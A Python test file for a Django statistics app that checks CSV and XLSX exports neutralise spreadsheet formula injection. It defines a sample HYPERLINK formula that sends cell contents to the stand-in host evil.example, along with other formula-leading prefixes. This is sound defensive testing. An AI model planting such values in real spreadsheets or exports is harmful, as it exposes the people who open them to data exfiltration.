"""Exports never turn a name into a live spreadsheet formula."""

import io

import pytest
import time_machine
from openpyxl import load_workbook

from stats.api.renderers import CSVRenderer
from stats.exports import table_csv, table_xlsx
from stats.tables import Table
from tests.stats.worlds import at

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
STARTS = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


def evil_table():
    return Table("t", "=title", ["=col", "Số"], [[start, 1] for start in STARTS])


def test_csv_writes_formula_like_text_as_text():
    lines = table_csv([evil_table()]).decode("utf-8-sig").splitlines()
    assert lines[0] == "'=col,Số"
    assert (
        lines[1] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")",1'
    )
    assert lines[2:5] == ["'+1+1,1", "'-2+3,1", "'@SUM(A1),1"]


def test_csv_keeps_numbers_and_plain_text():
    table = Table("t", "t", ["Tên", "Số"], [["Sở Tư pháp", -5], ["Xã 1-2", 0]])
    lines = table_csv([table]).decode("utf-8-sig").splitlines()
    assert lines[1:] == ["Sở Tư pháp,-5", "Xã 1-2,0"]


def test_xlsx_writes_formula_like_text_as_string_cells():
    workbook = load_workbook(io.BytesIO(table_xlsx([evil_table()], "x")))
    sheet = workbook.active
    cells = [row[0] for row in sheet.iter_rows(min_row=3, max_row=8)]
    assert [cell.value for cell in cells] == STARTS
    assert {cell.data_type for cell in cells} == {"s"}
    assert sheet["A1"].data_type == "s" and sheet["A2"].data_type == "s"


def test_api_csv_renderer_neutralises_formulas():
    body = CSVRenderer().render({"columns": ["Tên"], "rows": [[EVIL]]})
    assert body.decode("utf-8-sig").splitlines()[1].startswith("\"'=HYPERLINK(")


@pytest.mark.django_db
def test_an_agency_named_like_a_formula_is_exported_as_text(client, may):
    may.world.department.name = EVIL
    may.world.department.save(update_fields=["name"])
    client.force_login(may.world.leader)
    query = f"period=month&year=2026&month=5&agency={may.world.department.uuid}"
    with time_machine.travel(at(6, 10, 10), tick=False):
        csv_body = client.get(f"/thong-ke/xuat/theo-co-quan.csv?{query}")
        xlsx_body = client.get(f"/thong-ke/xuat/theo-co-quan.xlsx?{query}")
    assert csv_body.status_code == xlsx_body.status_code == 200
    text = csv_body.content.decode("utf-8-sig")
    assert EVIL.replace('"', '""') in text
    assert '\n"=HYPERLINK' not in text and ',"=HYPERLINK' not in text
    sheet = load_workbook(io.BytesIO(xlsx_body.content)).active
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert EVIL in [c.value for row in sheet.iter_rows() for c in row]
